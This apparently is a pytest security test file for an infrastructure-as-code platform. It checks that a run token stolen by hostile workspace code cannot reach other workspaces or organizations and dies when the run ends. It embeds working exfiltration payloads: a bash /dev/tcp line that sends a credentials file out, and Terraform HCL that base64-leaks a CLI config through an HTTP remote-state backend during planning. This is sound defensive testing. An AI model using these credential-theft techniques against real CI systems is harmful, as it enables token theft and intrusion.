"""A3, A12: what a run does with its own token, taken out of the run by whoever wrote it."""

import re
from base64 import b64decode
from collections.abc import Callable, Iterator

import httpx2
import pytest

from tests.attacks.client import Client
from tests.attacks.loot import Collector
from tests.attacks.test_hostile_plan import hostile
from tests.faults.configurations import pack
from tests.faults.gate import Gate
from tests.faults.platform import Platform

_STEAL = r"""
exec 3>/dev/tcp/127.0.0.1/COLLECTOR; cat "$TF_CLI_CONFIG_FILE" >&3; exec 3>&-
exec 4<>/dev/tcp/127.0.0.1/GATE; printf 'GET /stolen HTTP/1.0\r\n\r\n' >&4; read -r answer <&4
"""


@pytest.fixture(scope="module")
def known(platform: Platform) -> Iterator[Platform]:
    """Workers that tell their runs where the platform is."""
    with platform.workers_with(LANDFORM_PUBLIC_URL=platform.url):
        yield platform
    platform.restore()


@pytest.fixture
def steal(
    known: Platform, client: Client, workspace: str, gate: Gate, collector: Collector
) -> Callable[[], tuple[str, Client]]:
    """Start an apply that gives its token away and waits; return it and who has the token."""

    def start() -> tuple[str, Client]:
        gate.hold("stolen")
        script = _STEAL.replace("COLLECTOR", str(collector.port)).replace("GATE", str(gate.port))
        version = client.upload(workspace, hostile(script))
        run = client.start(workspace, version, **{"auto-apply": True})
        found = re.search(r'token\s*=\s*"([^"]+)"', collector.wait())
        assert found
        gate.wait_for("stolen")
        return run, Client(known.url, found[1])

    return start


def test_it_reads_what_the_run_may_and_nothing_else_and_writes_nothing(
    client: Client,
    workspace: str,
    make_workspace: Callable[..., str],
    steal: Callable[[], tuple[str, Client]],
    gate: Gate,
    canary: Callable[[], str],
) -> None:
    secret, other = canary(), make_workspace()
    text = f'output "o" {{\n  value = "{secret}"\n}}\n'
    version = client.upload(other, pack({"main.tf": text}))
    theirs = client.start(other, version, **{"auto-apply": True})
    client.wait(theirs, "applied")
    state = client.get(f"/workspaces/{other}/current-state-version")["id"]
    plan = theirs.replace("run-", "plan-", 1)
    run, thief = steal()

    assert thief.raw("GET", f"/workspaces/{workspace}").status_code == 200  # it is a token
    for path in (
        f"/workspaces/{other}",
        f"/workspaces/{other}/current-state-version",
        f"/workspaces/{other}/vars",
        f"/workspaces/{other}/runs",
        f"/state-versions/{state}",
        f"/state-versions/{state}/outputs",
        f"/runs/{theirs}",
        f"/plans/{plan}",
        f"/plans/{plan}/json-output",
        f"/configuration-versions/{version}",
        f"/configuration-versions/{version}/download",
    ):
        answer = thief.raw("GET", path)
        assert answer.status_code == 404, (path, answer.text)
        assert secret not in answer.text
    # Not of its own workspace either: states of a run come by the worker.
    refused = {403, 404}
    assert thief.upload_state(workspace, b"{}").status_code in refused
    assert thief.try_variable(workspace, "k", "v").status_code in refused
    assert thief.raw("POST", f"/workspaces/{workspace}/actions/lock").status_code in refused
    assert thief.raw("POST", f"/runs/{run}/actions/cancel").status_code in refused
    assert thief.raw("GET", f"/workspaces/{workspace}/vars").status_code in refused
    answer = thief.send("POST", "/account/authentication-tokens", "authentication-tokens", {})
    assert answer.status_code in {403, 404, 405}

    gate.open("stolen")
    client.wait(run, "applied")
    assert thief.raw("GET", f"/workspaces/{workspace}").status_code == 401
    thief.close()


_STEAL_IN_PLAN = """
locals { loot = replace(base64encode(file("/landform/in/cli.tfrc")), "/", "_") }
data "terraform_remote_state" "thief" {
  backend = "http"
  config  = { address = "http://127.0.0.1:GATE/stolen/${local.loot}", retry_max = 0 }
}
data "terraform_remote_state" "pause" {
  backend    = "http"
  config     = { address = "http://127.0.0.1:GATE/plan/paused", retry_max = 0 }
  depends_on = [data.terraform_remote_state.thief]
}
resource "terraform_data" "x" { input = "a" }
"""


def test_a_plan_s_does_nothing_that_only_an_apply_may_and_ends_with_the_plan(
    known: Platform, client: Client, workspace: str, gate: Gate
) -> None:
    gate.hold("plan/paused")
    archive = pack({"main.tf": _STEAL_IN_PLAN.replace("GATE", str(gate.port))})
    run = client.start(workspace, client.upload(workspace, archive))
    gate.wait_for("plan/paused")
    (loot,) = {
        visit.place.removeprefix("stolen/")
        for visit in gate.visits
        if visit.place.startswith("stolen/")
    }
    found = re.search(r'token\s*=\s*"([^"]+)"', b64decode(loot.replace("_", "/")).decode())
    assert found
    thief = Client(known.url, found[1])
    assert thief.raw("GET", f"/workspaces/{workspace}").status_code == 200  # it is a token
    refused = {403, 404}
    assert thief.upload_state(workspace, b"{}").status_code in refused
    assert thief.try_variable(workspace, "k", "v").status_code in refused
    for action in ("apply", "discard", "cancel", "force-cancel"):
        assert thief.raw("POST", f"/runs/{run}/actions/{action}").status_code in refused
    assert thief.raw("POST", f"/workspaces/{workspace}/actions/lock").status_code in refused
    gate.open("plan/paused")
    client.wait(run, "planned")
    assert thief.raw("GET", f"/workspaces/{workspace}").status_code == 401
    thief.close()
    assert client.act(run, "discard") == 202


def test_it_opens_nothing_of_another_organization(
    client: Client, steal: Callable[[], tuple[str, Client]], gate: Gate
) -> None:
    client.make_organization("attacked")
    other = client.make_workspace("attacked", "theirs")
    _, thief = steal()
    for path in ("/organizations/attacked", "/organizations/attacked/workspaces"):
        assert thief.raw("GET", path).status_code == 404
    for path in ("", "/current-state-version", "/vars", "/runs", "/configuration-versions"):
        assert thief.raw("GET", f"/workspaces/{other}{path}").status_code == 404
    thief.close()


def test_it_is_dead_at_once_when_the_run_is_cancelled(
    client: Client, workspace: str, steal: Callable[[], tuple[str, Client]]
) -> None:
    run, thief = steal()
    assert client.post(f"/runs/{run}/actions/cancel").is_success
    client.wait(run, "canceled", ended=())
    assert thief.raw("GET", f"/workspaces/{workspace}").status_code == httpx2.codes.UNAUTHORIZED
    thief.close()
